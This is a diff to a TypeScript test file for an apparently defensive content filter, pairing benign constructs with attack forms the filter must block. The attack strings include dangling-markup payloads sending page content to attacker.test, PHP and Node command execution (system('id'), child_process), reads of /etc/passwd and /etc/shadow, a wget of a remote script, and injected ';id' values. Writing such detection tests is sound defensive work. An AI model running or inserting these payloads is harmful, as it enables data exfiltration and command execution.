@@ -1,6 +1,7 @@
 // Constructs that are attacks only in one of their forms (scripts/probe-docs.ts found the benign ones in
-// glibc locale sources, fontconfig and D-Bus files, JDK properties files). Each benign case passes in every
-// carrier; beside it, the attack form of the same construct, which the same carrier must still block.
+// glibc locale sources, fontconfig and D-Bus files, JDK properties files, HTML pages, C and Rust documentation,
+// AppArmor profiles). Each benign case passes in every carrier; beside it, the attack form of the same
+// construct, which the same carrier must still block.
 import { beforeAll, describe, expect, it } from "vitest";
 import fc from "fast-check";
 import { loadHarness, type Harness } from "../support/harness.js";
@@ -99,6 +100,89 @@ const CASES: { name: string; benign: string[]; attacks: [string, number][] }[] =
       ["<?php file_get_contents (php://input); ?>", 9120],
     ],
   },
+  {
+    // 3021: a value cut short inside a quoted attribute value (a line of markup, a subject made of its first
+    // words) takes the page's markup as that value and gains no attribute; a URL to elsewhere carries the page away
+    name: "a tag left open inside a quoted value",
+    benign: [
+      '<span class="icon"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 448',
+      'const total = <span class="hljs-title',
+      'the interpreter <code class="file docutils',
+    ],
+    attacks: [
+      ["<img src='//attacker.test/?", 3021], // dangling markup: the page up to its next quote goes to the attacker
+      ['<img src="https://attacker.test/log?c=', 3021],
+      ['<a class="x" href="\\attacker.test\\', 3021],
+      ['<div class="note" style="background:url(//attacker.test/?', 3021], // a `name:` may open a URL
+      ['<a href="test"', 3021], // closed values, the tag left open: the page's markup may add attributes
+      ['<img src="x" class="y"', 3021],
+    ],
+  },
+  {
+    // 9121: a library-looking name in another language: a C prototype (two bare words side by side open the
+    // arguments, right after the name too), a method called on a call's result (PHP calls methods with `->`)
+    name: "a library-looking call that is another language's",
+    benign: [
+      "XML_SetCommentHandler(XML_Parser p,",
+      "let verbose = env::var(\"VERBOSE\").is_ok();",
+      "if path.exists() && fs::metadata(&path).is_file() {",
+    ],
+    attacks: [
+      ["is_FILE(chr(47).chr(101))", 9121], // PHP reads names in any case
+      ["Xml_Parse_Into_Struct($p, $d, $v)", 9121],
+      ["getcwd().system('id')", 9120], // `).` concatenates in PHP: a dangerous call after it still counts
+      ["var_dump(getcwd()), x", 9121],
+      ["print_r(new ArrayObject)", 9121], // `new X` is an expression
+      ["print_r(scandir('.'))", 9120],
+    ],
+  },
+  {
+    // 10130: a statement that binds a module to a name, spaced as a page's text spaces tokens, or after the ```js of a
+    // code block flattened to one line; a module used in the same statement, or child_process, still scores
+    name: "a module bound to a name",
+    benign: [
+      "const vm = require ( 'node:vm' );",
+      "```js const fs = require('node:fs'); const text = fs.readFileSync(file, 'utf8');",
+    ],
+    attacks: [
+      ["require ( 'child_process' ).exec('id')", 10130],
+      ["```js require('fs').readFileSync('/etc/passwd')", 10130],
+      ["```js const cp = require('child_process');", 10130],
+      ["x = require ( 'fs' ) .readFileSync('/etc/shadow')", 10130],
+    ],
+  },
+  {
+    // 10150: a condition that is a false literal closed by the loop's own `)`: the body after it never runs, whatever
+    // follows (C's `do { ... } while (0)` idiom named in prose); a truthy one, or one inside more condition, still scores
+    name: "a loop whose condition is a false literal",
+    benign: [
+      "Wrap the macro body in do { ... } while (0) so it acts as one statement.",
+      "do { x(); } while (0) /* one statement */",
+    ],
+    attacks: [
+      ["while (!false) count++", 10150],
+      ["while ((true)) x++", 10150],
+      ["while(!0){}", 10150],
+      ["while((0)+1){}", 10150],
+    ],
+  },
+  {
+    // 4103: a program path, one token of access modes and `,`: a rule of an AppArmor profile (/etc/apparmor.d)
+    name: "an AppArmor rule naming a program",
+    benign: [
+      "/usr/bin/nroff rm,",
+      "/usr/bin/groff rmCx -> &groff_child,",
+      "/bin/dash ix,",
+    ],
+    attacks: [
+      ["/usr/bin/id", 4103],
+      ["/usr/bin/id,", 4103],
+      ["/bin/sh -c id,", 4103],
+      ["/bin/sh rx, ;id", 4103],
+      ["/usr/bin/wget http://attacker.test/x.sh,", 4103],
+      [";/usr/bin/id r,", 4103],
+    ],
+  },
 ];
 
 describe.each(CASES)("$name", ({ benign, attacks }) => {
@@ -117,6 +201,15 @@ describe("what the exemptions leave open", () => {
     fc.assert(fc.property(prefix, fc.stringMatching(/^[a-z0-9._\/-]{0,30}$/), (pre, tail) => {
       fc.pre(!tail.startsWith("www.w3.org/"));
       expect(ids(`<!DOCTYPE r SYSTEM "${pre}${tail}.dtd">`)).toContain(14002);
+    }), { numRuns: 200 });
+  });
+
+  it("a tag left open in a quoted URL that may leave the page's origin still scores, whatever the attribute", () => {
+    const tag = fc.constantFrom("img", "a", "video", "input", "div", "table");
+    const scheme = fc.constantFrom("//", "https://", "HTTP:", "ftp:", "\\\\", " //");
+    fc.assert(fc.property(tag, fc.stringMatching(/^[a-z][a-z-]{0,10}$/), scheme, fc.stringMatching(/^[a-z0-9.\/?=&-]{0,20}$/), fc.constantFrom('"', "'"), (name, attr, pre, tail, q) => {
+      fc.pre(!attr.startsWith("on"));
+      expect(ids(`<${name} ${attr}=${q}${pre}${tail}`)).toContain(3021);
     }), { numRuns: 200 });
   });
 
